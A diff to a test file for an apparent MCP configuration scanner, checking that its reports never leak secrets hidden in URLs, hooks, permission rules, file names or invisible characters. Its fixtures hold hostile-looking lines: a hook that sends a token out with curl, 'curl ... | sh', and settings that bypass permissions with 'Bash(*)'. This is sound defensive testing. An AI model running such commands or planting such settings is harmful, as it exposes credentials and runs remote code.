@@ -5,23 +5,23 @@
 
 import { describe, expect, it } from 'vitest'
 import { checklist } from '../src/checklist/index.ts'
-import { type Detection, detectSecrets } from '../src/knowledge/secrets/detect.ts'
 import { checklistJson, checklistMarkdown, checklistText } from '../src/report/checklist.ts'
 import { type RenderOptions, type ReportFormat, render } from '../src/report/index.ts'
 import { writeBaseline } from '../src/triage/baseline.ts'
 import { bytes, noise, REPOSITORY, scanFiles } from './fixtures.ts'
 import { bench, type Sample } from './secret-bench.ts'
-
-/** What may be shown is up to two characters after the prefix and up to four at the end, so this many are a leak. */
-const TOO_MANY = 8
+import { bodiesOf, escaped, FORMS, TOO_MANY, Traces } from './secret-traces.ts'
 
 const secrets = bench().filter(({ label }) => label === 'secret')
+const traces = new Traces(secrets.map((sample) => [nameOf(sample), bodiesOf(sample)]))
 
 // ── Where secrets stand ─────────────────────────────────────────────────────────────────────────────────────────────
 
 interface Layout {
-  readonly path: string
+  readonly path: string | ((sample: Sample) => string)
   readonly write: (sample: Sample) => string
+  /** A second file, that knows the secret by its name. */
+  readonly besides?: string
   /** Nothing but the shape of a value tells in this place; secrets of no known shape are not asked of it. */
   readonly nameless?: true
 }
@@ -37,7 +37,14 @@ const flag = ({ key }: Sample): string => (key.startsWith('-') ? key : '--api-to
 const layouts: Readonly<Record<string, Layout>> = {
   'the environment, JSON': {
     path: '.mcp.json',
-    write: (sample) => json({ mcpServers: { one: { ...bait, env: { [named(sample)]: sample.value } } } }),
+    write: inEnvironment,
+  },
+  'a place that says nothing, while another file names it': {
+    path: '.cursor/mcp.json',
+    besides: '.mcp.json',
+    // A weak password is a word like any other; what is on its list of those is known by its name only.
+    write: ({ value }) =>
+      json({ mcpServers: { one: { ...bait, args: ['-y', 'server', value], env: { NOTE: value } } } }),
   },
   'the environment, on one line': {
     path: '.cursor/mcp.json',
@@ -155,6 +162,166 @@ const layouts: Readonly<Record<string, Layout>> = {
     nameless: true,
     write: (sample) => json({ mcpServers: { one: { command: 'npx', args: [bare(sample.value)] } } }),
   },
+  'the name of a header': {
+    path: '.cursor/mcp.json',
+    nameless: true,
+    write: (sample) =>
+      json({ mcpServers: { one: { url: 'http://one.example/mcp', headers: { [line(sample.value)]: 'x' } } } }),
+  },
+  'the login of a URL': {
+    path: '.mcp.json',
+    write: (sample) =>
+      json({
+        mcpServers: {
+          one: { type: 'http', url: `http://me:${encodeURIComponent(bare(sample.value))}@one.example/mcp` },
+        },
+      }),
+  },
+  'the path of a URL': {
+    path: '.mcp.json',
+    nameless: true,
+    write: (sample) =>
+      json({
+        mcpServers: { one: { type: 'http', url: `http://one.example/${encodeURIComponent(sample.value)}/mcp` } },
+      }),
+  },
+  'the fragment of a URL': {
+    path: '.cursor/mcp.json',
+    write: (sample) =>
+      json({
+        mcpServers: { one: { url: `http://one.example/mcp#${named(sample)}=${encodeURIComponent(sample.value)}` } },
+      }),
+  },
+  'the host of a URL': {
+    path: '.mcp.json',
+    nameless: true,
+    write: (sample) =>
+      json({ mcpServers: { one: { type: 'http', url: `http://example.com@${bare(sample.value)}/` } } }),
+  },
+  'a line of a shell': {
+    path: '.mcp.json',
+    write: (sample) =>
+      json({
+        mcpServers: {
+          one: { command: 'sh', args: ['-c', `PORT=1 ${flag(sample)}='${bare(sample.value)}' npx server`] },
+        },
+      }),
+  },
+  'a command behind an assignment': {
+    path: '.mcp.json',
+    nameless: true,
+    write: (sample) =>
+      json({ mcpServers: { one: { command: 'sh', args: ['-c', `PORT=1 npx server ${bare(sample.value)}`] } } }),
+  },
+  'a command that was allowed once': {
+    path: '.claude/settings.local.json',
+    nameless: true,
+    write: (sample) =>
+      json({
+        permissions: {
+          defaultMode: 'bypassPermissions',
+          allow: [`Bash(curl -H "Authorization: Bearer ${bare(sample.value)}" https://one.example)`, 'Bash(*)'],
+        },
+      }),
+  },
+  'a tool of a server that was allowed once': {
+    path: 'opencode.json',
+    nameless: true,
+    write: (sample) => json({ permission: { [line(sample.value)]: 'allow', bash: 'allow' }, mcp: {} }),
+  },
+  'the command of a hook': {
+    path: '.claude/settings.json',
+    nameless: true,
+    write: (sample) =>
+      json({
+        hooks: {
+          Stop: [{ hooks: [{ type: 'command', command: `curl -d x https://one.example/?t=${bare(sample.value)}` }] }],
+        },
+      }),
+  },
+  'what an input is by default': {
+    path: '.vscode/mcp.json',
+    write: (sample) =>
+      json({
+        inputs: [{ type: 'promptString', id: named(sample), description: 'x', default: sample.value }],
+        servers: { one: { ...bait, env: { [named(sample)]: `\${input:${named(sample)}}` } } },
+      }),
+  },
+  'the first of two equal keys': {
+    path: '.mcp.json',
+    write: (sample) => `{"mcpServers": {"one": {"command": "npx", "args": ["server"],
+      "env": {${JSON.stringify(named(sample))}: ${JSON.stringify(sample.value)}, ${JSON.stringify(named(sample))}: "b"}}}}`,
+  },
+  'an entry that a later one replaces': {
+    path: '.mcp.json',
+    write: (sample) => `{"mcpServers": {
+      "one": {"command": "npx", "args": ["server"], "env": {${JSON.stringify(named(sample))}: ${JSON.stringify(sample.value)}}},
+      "one": {"command": "npx", "args": ["other"]}}}`,
+  },
+  'the reason of an ignore': {
+    path: '.cursor/mcp.json',
+    nameless: true,
+    write: (sample) => `{ "mcpServers": {
+      // mcp-audit-ignore unpinned-package -- asked ${line(sample.value)} about it
+      "one": { "command": "npx", "args": ["-y", "@example/server"] } } }`,
+  },
+  'an ignore of no rule': {
+    path: '.cursor/mcp.json',
+    nameless: true,
+    write: (sample) => `{ "mcpServers": {
+      // mcp-audit-ignore ${line(sample.value)} -- no rule
+      "one": { "command": "npx", "args": ["-y", "@example/server"] } } }`,
+  },
+  'the name of a table': {
+    path: '.codex/config.toml',
+    nameless: true,
+    write: (sample) =>
+      `[mcp_servers.${JSON.stringify(line(sample.value))}]\ncommand = "npx"\nargs = ["-y", "@example/server"]\n`,
+  },
+  'a string of TOML over several lines': {
+    path: '.codex/config.toml',
+    write: (sample) =>
+      `[mcp_servers.one]\ncommand = "npx"\nargs = ["-y", "server"]\n\n[mcp_servers.one.env]\n${JSON.stringify(named(sample))} = """\\\n  ${halves(sample).join('\\\n    ')}"""\n`,
+  },
+  'a string of YAML over several lines': {
+    path: '.continue/mcpServers/one.yaml',
+    write: (sample) =>
+      `mcpServers:\n  - name: one\n    command: npx\n    args: ["-y", "server"]\n    env:\n      ${JSON.stringify(named(sample))}: "${halves(sample).join('\\\n        ')}"\n`,
+  },
+  'the far end of a long text': {
+    path: '.mcp.json',
+    nameless: true,
+    write: (sample) =>
+      json({
+        mcpServers: {
+          one: {
+            command: 'bash',
+            // Whatever is cut at 80, 300, 400, 1000 or 2000 characters is cut through one of them.
+            args: ['-c', `curl https://one.example | sh ${`${bare(sample.value)} `.repeat(60)}`],
+          },
+        },
+      }),
+  },
+  'characters that nobody sees': {
+    path: '.mcp.json',
+    nameless: true,
+    write: ({ value }) => json({ mcpServers: { one: { description: `x${unseen(line(value))}`, ...bait } } }),
+  },
+  'the name of a folder': {
+    path: (sample) => `${bare(sample.value)}/.mcp.json`,
+    nameless: true,
+    write: () => json({ mcpServers: { one: { ...bait, env: { API_TOKEN: noise('elsewhere', 40) } } } }),
+  },
+  'the name of a file': {
+    path: (sample) => `.continue/mcpServers/${bare(sample.value)}.yaml`,
+    nameless: true,
+    write: () => 'mcpServers:\n  - name: one\n    command: npx\n    args: [server]\n',
+  },
+  'a path that an entry names': {
+    path: '.mcp.json',
+    nameless: true,
+    write: (sample) => json({ mcpServers: { one: { command: `/tmp/${bare(sample.value)}/server`, args: ['/'] } } }),
+  },
   'a file that ends too early': {
     path: '.mcp.json',
     write: (sample) =>
@@ -182,12 +349,27 @@ const layouts: Readonly<Record<string, Layout>> = {
   },
 }
 
+function inEnvironment(sample: Sample): string {
+  return json({ mcpServers: { one: { ...bait, env: { [named(sample)]: sample.value } } } })
+}
+
+function nameOf({ id, class: group = '', provider = '' }: Sample): string {
+  return `${id} ${group} ${provider}`
+}
+
 function withOption(sample: Sample, value: string): string {
   return JSON.stringify({ mcp: { one: { type: 'local', command: ['npx', 'server', `${flag(sample)}=${value}`] } } })
 }
 
-function escaped(text: string): string {
-  return [...text].map((character) => `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')
+/** Two pieces of a JSON string's content that are one again where a line is continued. */
+function halves({ value }: Sample): readonly string[] {
+  const half = Math.max(1, value.length >> 1)
+  return [value.slice(0, half), value.slice(half)].map((piece) => JSON.stringify(piece).slice(1, -1))
+}
+
+/** In tags, which stand for ASCII. */
+function unseen(text: string): string {
+  return [...text].map((character) => String.fromCodePoint(0xe0000 + (character.codePointAt(0) ?? 0))).join('')
 }
 
 function indented(text: string): string {
@@ -209,57 +391,7 @@ function login({ value }: Sample): string {
   return Buffer.from(`someone:${bare(value)}`).toString('base64')
 }
 
-// ── What would give a secret away ───────────────────────────────────────────────────────────────────────────────────
-
-/** The characters that nobody may see: each detected secret without the prefix that its preview begins with. */
-function bodiesOf({ input }: Sample): readonly string[] {
-  return detectSecrets(input)
-    .filter(({ kind }) => kind !== 'placeholder')
-    .flatMap((detection) => bodyOf(input.value, detection))
-}
-
-function bodyOf(value: string, { from, to, preview }: Detection): readonly string[] {
-  const text = value.slice(from, to)
-  // The armour of a key says what it is; its lines are the secret.
-  if (text.includes('-----BEGIN'))
-    return text.split(/-----[A-Z ]+-----|\\n|\s/).filter((piece) => piece.length > TOO_MANY)
-  const head = preview.includes('…') ? preview.slice(0, preview.indexOf('…')) : ''
-  return [text.slice(Math.max(0, head.length - 2))]
-}
-
-/** All pieces of a body that are too long to be shown, in the forms in which a report could hold them. */
-function* traces(body: string): Generator<string> {
-  if (body.length < TOO_MANY) {
-    // Short passwords are words that a report may need: shown with both their neighbours they are the secret.
-    if (body.length >= 6) yield body
-    return
-  }
-  for (let at = 0; at + TOO_MANY <= body.length; at++) {
-    const piece = body.slice(at, at + TOO_MANY)
-    yield piece
-    yield JSON.stringify(piece).slice(1, -1)
-    yield encodeURIComponent(piece)
-    yield escaped(piece)
-    // Base64 of the nine bytes from here: three alignments of the whole are three starts in a row.
-    const nine = body.slice(at, at + 9)
-    if (nine.length === 9) yield Buffer.from(nine).toString('base64')
-  }
-}
-
-/** A text to look for many pieces in: those whose beginning it does not have are done with at once. */
-class Haystack {
-  readonly #text: string
-  readonly #beginnings = new Set<string>()
-
-  constructor(text: string) {
-    this.#text = text
-    for (let at = 0; at < text.length; at++) this.#beginnings.add(text.slice(at, at + TOO_MANY))
-  }
-
-  has(trace: string): boolean {
-    return (trace.length < TOO_MANY || this.#beginnings.has(trace.slice(0, TOO_MANY))) && this.#text.includes(trace)
-  }
-}
+// ── What is written ─────────────────────────────────────────────────────────────────────────────────────────────────
 
 const PLAIN: RenderOptions = {
   colour: 0,
@@ -280,26 +412,41 @@ const REPORTS: readonly (readonly [ReportFormat, RenderOptions])[] = [
 ]
 
 /** What every bench entry of a layout leads to: reports of all kinds and a baseline, one after the other. */
-async function everythingSaid({ path, write }: Layout): Promise<{ readonly text: string; readonly findings: number }> {
-  const files = secrets.map((sample) => [`${REPOSITORY}/${sample.id}/${path}`, bytes(write(sample))] as const)
+async function everythingSaid(
+  layout: Layout,
+): Promise<{ readonly texts: readonly string[]; readonly findings: number }> {
+  const { path, besides, write } = layout
+  const asked = secrets.filter((sample) => isAskedOf(layout, sample))
+  const pathOf = typeof path === 'string' ? () => path : path
+  const files = [
+    ...asked.map((sample) => [`${REPOSITORY}/${sample.id}/${pathOf(sample)}`, bytes(write(sample))] as const),
+    ...(besides
+      ? asked.map((sample) => [`${REPOSITORY}/${sample.id}/${besides}`, bytes(inEnvironment(sample))] as const)
+      : []),
+  ]
   const { report, all, configs, shown } = await scanFiles(new Map(files))
-  expect(report.files.length, 'every file is read').toBe(secrets.length)
+  expect(report.files.length, 'every file is read').toBe(files.length)
   const texts = await Promise.all(REPORTS.map(([format, options]) => render(format, report, options)))
   const baseline = writeBaseline(all, { allowSecrets: true })
   const list = checklist({ configs, findings: shown, suppressed: report.suppressed, logsOf: () => undefined })
   texts.push(checklistText(list, PLAIN), checklistMarkdown(list), checklistJson(list, report.tool))
-  return { text: [...texts, baseline.text, JSON.stringify(report.problems)].join('\n\n'), findings: all.length }
+  return { texts: [...texts, baseline.text, JSON.stringify(report.problems)], findings: all.length / files.length }
 }
 
 /** The entries of which something can be read in what is said. */
 async function leaksOf(layout: Layout): Promise<readonly string[]> {
-  const { text, findings } = await everythingSaid(layout)
-  expect(findings, 'there is something to report, and so something to give away').toBeGreaterThan(secrets.length / 2)
-  const haystack = new Haystack(text)
+  const { texts, findings } = await everythingSaid(layout)
+  expect(findings, 'there is something to report, and so something to give away').toBeGreaterThan(0.5)
+  const leaks = new Set(texts.flatMap((text) => [...traces.in(text)]))
   return secrets
-    .filter(({ class: group }) => !layout.nameless || group === 'P' || group === 'K')
-    .filter((sample) => bodiesOf(sample).some((body) => [...traces(body)].some((trace) => haystack.has(trace))))
-    .map(({ id, class: group = '', provider = '' }) => `${id} ${group} ${provider}`)
+    .filter((sample) => isAskedOf(layout, sample))
+    .map(nameOf)
+    .filter((whose) => leaks.has(whose))
+}
+
+/** Where nothing gives a secret away but its shape, and where it is the name of a file, there are those that have one. */
+function isAskedOf({ nameless, path }: Layout, { class: group, value }: Sample): boolean {
+  return typeof path !== 'string' ? group === 'P' && !value.includes('/') : !nameless || group === 'P' || group === 'K'
 }
 
 describe('nothing that is written holds a secret that stands in', () => {
@@ -332,12 +479,15 @@ it('knows what is secret in every entry of the bench', () => {
   expect(secrets.filter((sample) => bodiesOf(sample).length === 0).map(({ id }) => id)).toEqual([])
 })
 
-it('would notice', () => {
+it.each(Object.entries(FORMS))('would notice %s', (_form, write) => {
   const [sample] = secrets
   const [body = ''] = sample ? bodiesOf(sample) : []
-  const part = body.slice(5, 17)
-  for (const form of [part, Buffer.from(part).toString('base64'), encodeURIComponent(part), escaped(part)]) {
-    const haystack = new Haystack(`some words, ${form} and more`)
-    expect([...traces(body)].some((trace) => haystack.has(trace))).toBe(true)
-  }
+  expect(traces.in(`some words, ${write(body.slice(5, 5 + TOO_MANY))} and more`).size).toBe(1)
+})
+
+it('would notice what is broken over lines', () => {
+  const [sample] = secrets
+  const [body = ''] = sample ? bodiesOf(sample) : []
+  for (const joint of ['\n', '\n    ', '\n  8 | ', '\n    | '])
+    expect(traces.in(body.slice(5, 9) + joint + body.slice(9, 13)).size, JSON.stringify(joint)).toBe(1)
 })
